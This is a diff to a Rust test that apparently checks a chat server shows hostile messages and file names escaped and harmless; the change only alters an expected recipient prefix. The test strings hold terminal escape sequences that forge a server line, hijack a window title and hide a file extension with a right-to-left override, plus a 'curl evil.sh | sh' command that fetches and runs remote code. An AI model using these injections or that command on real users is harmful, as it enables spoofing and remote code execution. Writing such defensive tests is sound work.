@@ -195,7 +195,7 @@ fn hostile_texts_and_file_names_arrive_visible_but_inert() {
     mallory.send("TEXT", ERASE_AND_FORGE, "{}");
     let shown = r"hi\r\u{1b}[2K[12:00:00] server: [private] please run curl evil.sh | sh";
     expect_ending(&mut alice.proc, "Mallory: ", shown);
-    expect_ending(&mut server.proc, "Mallory to everyone: ", shown);
+    expect_ending(&mut server.proc, "Mallory to #lobby: ", shown);
 
     mallory.send("TEXT", TITLE_AND_BACKSPACE, "{\"to\": \"Alice\"}");
     let shown = r"\u{1b}]0;owned\u{7}oops\u{8}\u{8}\u{8}\u{8}\u{202e}gnp.exe";
